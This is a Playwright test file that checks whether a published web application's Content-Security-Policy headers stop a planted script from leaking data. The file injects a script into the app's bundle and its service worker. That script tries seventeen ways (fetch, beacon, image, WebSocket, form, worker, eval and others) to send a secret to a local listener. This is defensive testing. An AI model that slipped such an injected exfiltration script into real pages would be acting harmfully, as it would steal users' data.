import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, test } from "@playwright/test";
import { textOf, utf8 } from "#domain/application/bytes.ts";
import { anApplicationInput } from "../../fixtures/applications/anApplication.ts";
import { applicationHost } from "../helpers/pages/publishedApplication.ts";

test.use({ serviceWorkers: "allow" });

/** Somebody who waits for what is sent out: every request counts, whatever becomes of it. */
async function listener(): Promise<{
  readonly url: string;
  readonly hits: string[];
  readonly server: Server;
}> {
  const hits: string[] = [];
  const server = createServer((request, response) => {
    hits.push(`${request.method} ${request.url}`);
    response.setHeader("access-control-allow-origin", "*").end("ok");
  });
  server.on("upgrade", (request, socket) => {
    hits.push(`UPGRADE ${request.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, hits, server };
}

/** What a script that does not belong there tries, once its page is loaded; each way by itself. */
const planted = (url: string) => `
addEventListener("load", () => {
  const secret = "kept-on-this-device";
  window.stopped = [];
  document.addEventListener("securitypolicyviolation", (event) => window.stopped.push(event.effectiveDirective));
  const tries = {
    fetch: () => fetch("${url}/fetch?" + secret).catch(() => {}),
    blind: () => fetch("${url}/blind", { method: "POST", mode: "no-cors", body: secret }).catch(() => {}),
    xhr: () => { const one = new XMLHttpRequest(); one.open("POST", "${url}/xhr"); one.send(secret); },
    beacon: () => navigator.sendBeacon("${url}/beacon", secret),
    picture: () => { new Image().src = "${url}/picture?" + secret; },
    socket: () => new WebSocket("${url.replace("http", "ws")}/socket"),
    events: () => new EventSource("${url}/events"),
    script: () => document.head.append(Object.assign(document.createElement("script"), { src: "${url}/script.js" })),
    style: () => document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: "${url}/style.css" })),
    font: () => { const face = new FontFace("x", "url(${url}/font.woff2)"); void face.load().catch(() => {}); },
    frame: () => document.body.append(Object.assign(document.createElement("iframe"), { src: "${url}/frame" })),
    object: () => document.body.append(Object.assign(document.createElement("object"), { data: "${url}/object" })),
    media: () => { document.body.append(Object.assign(document.createElement("video"), { src: "${url}/media" })); },
    form: () => { const form = document.body.appendChild(Object.assign(document.createElement("form"), { action: "${url}/form", method: "post", target: "_self" })); form.submit(); },
    worker: () => { new Worker(URL.createObjectURL(new Blob(['fetch("${url}/worker")'], { type: "text/javascript" }))); },
    inline: () => document.head.append(Object.assign(document.createElement("script"), { textContent: 'fetch("${url}/inline")' })),
    evaluated: () => (0, eval)('fetch("${url}/evaluated")'),
  };
  for (const [name, attempt] of Object.entries(tries)) try { attempt(); } catch { /* stopped at once */ }
  window.tried = Object.keys(tries);
});
`;

declare global {
  interface Window {
    readonly tried?: readonly string[];
    readonly stopped?: readonly string[];
  }
}

test("a script planted in a published application gets nothing out: its headers stop every way, and nobody hears a word", async ({
  page,
  context,
}) => {
  const listening = await listener();
  const host = await applicationHost("pflanze", undefined, (files) => {
    // The script that the page itself names: others are loaded only where they are needed.
    const [, path = ""] = /<script[^>]+src="\/?([^"]+)"/.exec(textOf(files.get("index.html")!) ?? "") ?? [];
    files.set(path, new Uint8Array(Buffer.concat([files.get(path)!, utf8(planted(listening.url))])));
    files.set("sw.js", new Uint8Array(Buffer.concat([files.get("sw.js")!, utf8(`;self.addEventListener("message", () => fetch("${listening.url}/from-worker").catch(() => {}));`)]))); // prettier-ignore
  });
  try {
    await host.publish(anApplicationInput());
    await page.goto(host.url);
    await expect.poll(() => page.evaluate(() => window.tried?.length)).toBe(17);
    // Not by a locator: the page counts as being left, since its form was sent, and is not.
    await expect
      .poll(() => page.evaluate(() => document.querySelector("[data-copy=ready]") !== null))
      .toBe(true);
    const directives = await page.evaluate(() => [...new Set(window.stopped)].toSorted());
    for (const one of [
      "connect-src",
      "img-src",
      "script-src-elem",
      "style-src-elem",
      "font-src",
      "frame-src",
      "object-src",
      "media-src",
      "form-action",
      "worker-src",
    ])
      // prettier-ignore
      expect(directives, one).toContain(one);
    // The worker of the application is held by the headers of its own script.
    await page.evaluate(async () => (await navigator.serviceWorker.ready).active?.postMessage("now"));
    // Kept on the device, and the host gone: the copy is served with the same headers.
    await host.stop();
    await page.reload();
    await expect.poll(() => page.evaluate(() => window.tried?.length)).toBe(17);
    await expect.poll(() => page.evaluate(() => window.stopped?.includes("form-action"))).toBe(true);
    // That the listener hears at all is shown by somebody whom no header holds.
    const free = await context.newPage();
    await free.goto(`${listening.url}/heard`);
    expect(listening.hits.filter((hit) => hit !== "GET /favicon.ico")).toEqual(["GET /heard"]);
  } finally {
    await host.stop();
    host.remove();
    listening.server.close();
  }
});
